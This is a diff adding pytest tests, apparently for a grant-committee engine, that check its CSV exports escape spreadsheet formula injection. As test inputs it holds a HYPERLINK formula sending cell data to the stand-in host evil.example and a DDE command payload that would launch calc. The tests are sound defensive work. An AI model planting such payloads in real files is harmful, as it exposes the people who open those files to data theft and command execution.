@@ -4,6 +4,8 @@ schemas (the package schema's reference to the grant schema resolved locally).""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, datetime
 from decimal import Decimal
@@ -13,14 +15,18 @@ import pytest
 from jsonschema import Draft202012Validator
 from referencing import Registry
 from referencing.jsonschema import DRAFT202012
+from sqlmodel import select
 
 from domain.committee import DecisionIn
 from engine.db import unit_of_work
 from engine.services.committee.decisions import record_decisions
+from engine.services.csvfile import spreadsheet_cell
 from engine.services.errors import NotAllowed
 from engine.services.letters import send_decision_letters
 from engine.services.opendata import export_360giving, validation_errors, write_round_report
+from engine.services.report import write_report
 from engine.services.setup import Runtime
+from engine.tables import Application
 from tests.conftest import ROUND1
 
 OFFICIAL = Path(__file__).resolve().parents[3] / "shared" / "standards" / "360giving"
@@ -122,3 +128,55 @@ def test_there_is_nothing_to_publish_before_the_decisions_and_their_letters(comm
     with unit_of_work(committee.engine) as session:
         _, _, public, _ = write_round_report(session, ROUND1, tmp_path)
     assert "0 project(s) approved" in public.read_text()
+
+
+def test_no_csv_the_engine_writes_lets_a_spreadsheet_run_what_an_applicant_or_the_committee_typed(
+    committee: Runtime, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open the dossier")'
+    with unit_of_work(committee.engine) as session:
+        application = session.exec(select(Application).where(Application.reference == "SIP-2018-R1-0001")).one()
+        application.title = formula  # as the applicant sent it in form A
+        session.add(application)
+        record_decisions(
+            session,
+            ROUND1,
+            [
+                (
+                    DecisionIn(
+                        reference="SIP-2018-R1-0001",
+                        decision="approved_with_conditions",
+                        amount=Decimal("150000"),
+                        conditions="@SUM(1+1)*cmd|' /C calc'!A0",
+                    ),
+                    "1",
+                ),
+                (DecisionIn(reference="SIP-2018-R1-0004", decision="not_approved"), "2"),
+            ],
+            actor="officer",
+            at=AT,
+        )
+        send_decision_letters(session, committee.settings, ROUND1, actor="officer", at=AT)
+    with unit_of_work(committee.engine) as session:
+        _, screening_csv = write_report(session, ROUND1, tmp_path / "screening")
+        _, round_csv, _, public_csv = write_round_report(session, ROUND1, tmp_path / "round")
+    for written in (screening_csv, round_csv, public_csv):
+        cells = [cell for row in csv.reader(io.StringIO(written.read_text())) for cell in row]
+        assert "'" + formula in cells, written.name  # kept, as text
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), written.name
+    round_cells = [cell for row in csv.reader(io.StringIO(round_csv.read_text())) for cell in row]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in round_cells
+
+
+def test_a_spreadsheet_cell_keeps_numbers_and_plain_text_as_they_are() -> None:
+    assert [spreadsheet_cell(v) for v in (None, True, -12.5, "-3", "+4", "Réduction", "-", "- a list", "\tx")] == [
+        "",
+        "true",
+        "-12.5",
+        "-3",
+        "+4",
+        "Réduction",
+        "'-",
+        "'- a list",
+        "'\tx",
+    ]
